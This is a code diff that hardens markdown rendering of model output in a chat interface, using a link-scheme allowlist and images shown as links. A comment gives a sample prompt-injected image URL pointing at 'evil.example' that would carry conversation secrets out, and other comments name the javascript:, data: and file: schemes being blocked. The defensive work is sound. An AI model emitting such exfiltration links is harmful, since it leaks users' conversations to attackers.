@@ -55,8 +55,7 @@ hljs.registerAliases(["yml"], { languageName: "yaml" });
 hljs.registerAliases(["rs"], { languageName: "rust" });
 hljs.registerAliases(["cs"], { languageName: "csharp" });
 
-// html: false makes markdown-it escape every tag the model writes; its link validator refuses
-// javascript:, vbscript:, file: and data: (but for images) URLs. Nothing here may relax that.
+// html: false makes markdown-it escape every tag the model writes. Nothing here may relax that.
 const md = new MarkdownIt({
   html: false,
   linkify: true,
@@ -69,6 +68,21 @@ const md = new MarkdownIt({
     return ""; // markdown-it escapes the code itself
   },
 });
+
+// Links may go to web pages, mail addresses and places on this site; nothing else (no
+// javascript:, data:, file:, or any scheme a browser might hand to another program).
+const SAFE_LINK = /^(https?:\/\/|mailto:|\/(?!\/)|#)/i;
+md.validateLink = (url) => SAFE_LINK.test(url.trim()) || !/^[a-z][a-z0-9+.-]*:|^\/\//i.test(url.trim());
+
+// Images the model names are not fetched: an image URL is a way to send the conversation to
+// another site (a prompt-injected "![](https://evil.example/?q=secret)"). It shows as a link.
+md.renderer.rules.image = (tokens, idx) => {
+  const token = tokens[idx]!;
+  const src = String(token.attrGet("src") ?? "");
+  const alt = md.utils.escapeHtml(token.content || "image");
+  if (!SAFE_LINK.test(src)) return `[${alt}]`;
+  return `<a href="${md.utils.escapeHtml(src)}" target="_blank" rel="noopener noreferrer nofollow">🖼 ${alt}</a>`;
+};
 
 // Links the model writes open in a new tab and cannot reach back into this one.
 type RenderRule = NonNullable<typeof md.renderer.rules.link_open>;
